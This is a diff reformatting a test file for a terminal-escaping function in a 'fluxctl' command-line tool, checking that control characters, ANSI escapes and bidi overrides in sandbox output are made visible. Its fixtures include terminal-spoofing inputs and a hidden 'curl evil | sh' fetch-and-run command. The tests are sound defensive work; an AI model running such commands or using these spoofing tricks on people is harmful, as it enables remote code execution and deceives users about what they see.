@@ -20,9 +20,15 @@ describe('cmd/fluxctl escape: sandbox bytes shown to a person', () => {
       ['\x00\x01\x07\x0b\x0c\x1f\x7f', '\\x00\\x01\\x07\\v\\f\\x1f\\x7f'],
       ['\u0085\u009b31m', '\\u0085\\u009b31m'],
       ['abc\u202egnp.exe', 'abc\\u202egnp.exe'],
-      ['\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f', '\\u202a\\u202b\\u202c\\u202d\\u2066\\u2067\\u2068\\u2069\\u200e\\u200f'],
+      [
+        '\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f',
+        '\\u202a\\u202b\\u202c\\u202d\\u2066\\u2067\\u2068\\u2069\\u200e\\u200f',
+      ],
       ['line1\n\tline2\n', 'line1\n\tline2\n'],
-      ['plain ascii, ünïcödé, 日本語, emoji 🙂 and \\r as text', 'plain ascii, ünïcödé, 日本語, emoji 🙂 and \\r as text'],
+      [
+        'plain ascii, ünïcödé, 日本語, emoji 🙂 and \\r as text',
+        'plain ascii, ünïcödé, 日本語, emoji 🙂 and \\r as text',
+      ],
     ];
     for (const [raw, shown] of cases) expect(escapeTerminal(raw), JSON.stringify(raw)).to.equal(shown);
     // Every code point of the classes, one by one: none survives.
@@ -45,9 +51,27 @@ describe('cmd/fluxctl escape: sandbox bytes shown to a person', () => {
   });
 
   it('table cells, describe values and the changeset summary are escaped', () => {
-    const rows = tableRows([{ name: 'Name', type: 'string' }, { name: 'Message', type: 'string' }], [{ cells: ['x', 'ok\r\x1b[2Kevil\nsecond'] }], {});
+    const rows = tableRows(
+      [
+        { name: 'Name', type: 'string' },
+        { name: 'Message', type: 'string' },
+      ],
+      [{ cells: ['x', 'ok\r\x1b[2Kevil\nsecond'] }],
+      {},
+    );
     expect(rows[1]).to.deep.equal(['x', 'ok\\r^[[2Kevil\\nsecond']);
-    const d = describeObject({ apiVersion: 'v1', kind: 'X', metadata: { name: 'n', namespace: 'd' }, status: { message: 'm\x1b]0;title\x07', conditions: [{ type: 'Ready', status: 'False', reason: 'R', message: 'c\u202ex' }] } } as any, []);
+    const d = describeObject(
+      {
+        apiVersion: 'v1',
+        kind: 'X',
+        metadata: { name: 'n', namespace: 'd' },
+        status: {
+          message: 'm\x1b]0;title\x07',
+          conditions: [{ type: 'Ready', status: 'False', reason: 'R', message: 'c\u202ex' }],
+        },
+      } as any,
+      [],
+    );
     expect(d).to.include('m^[]0;title\\x07').and.include('c\\u202ex');
     expect(d).not.to.match(HOSTILE);
     const s = summary({
@@ -61,7 +85,10 @@ describe('cmd/fluxctl escape: sandbox bytes shown to a person', () => {
       },
     } as any);
     expect(s).not.to.match(HOSTILE);
-    expect(s).to.include('  A /work/a^[[8m').and.include('  M /work/b\\nM /work/fake').and.include('fine\\r^[[2Kcurl evil | sh');
+    expect(s)
+      .to.include('  A /work/a^[[8m')
+      .and.include('  M /work/b\\nM /work/fake')
+      .and.include('fine\\r^[[2Kcurl evil | sh');
     expect(s).to.include('echo \\u202e');
   });
 
